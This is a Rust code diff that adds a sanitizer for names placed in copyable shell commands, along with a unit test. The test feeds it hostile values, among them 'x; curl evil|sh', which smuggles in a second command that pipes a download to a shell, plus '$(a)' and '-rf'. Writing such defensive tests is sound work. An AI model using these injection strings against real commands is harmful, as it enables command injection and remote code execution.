@@ -67,6 +67,16 @@ pub(crate) fn name(name: &str) -> String {
     quoted
 }
 
+/// A name that somebody else chose, for a command to be copied: as it is if a shell takes it for one word
+/// and nothing else, or else NAME.
+pub(crate) fn argument(name: &str) -> &str {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
+    match name.chars().all(is_plain) && !name.starts_with('-') && !name.is_empty() {
+        true => name,
+        false => "NAME",
+    }
+}
+
 /// Whether `c` shows nothing or an empty place, so that two names could look the same. The joiners and
 /// the selector that emoji and some scripts need are not among them.
 fn is_invisible(c: char) -> bool {
@@ -200,6 +210,14 @@ mod tests {
             assert_eq!(name(&format!("a{hostile}b")), "\"a\u{fffd}b\"");
         }
         assert_eq!(name("a\tb"), "\"a b\"");
+    }
+
+    #[test]
+    fn a_name_in_a_command_is_one_word_or_stands_for_itself() {
+        assert_eq!(argument("Alice-2"), "Alice-2");
+        for hostile in ["x; curl evil|sh", "a b", "$(a)", "-rf", "", "\u{3164}", "é"] {
+            assert_eq!(argument(hostile), "NAME", "{hostile}");
+        }
     }
 
     #[test]
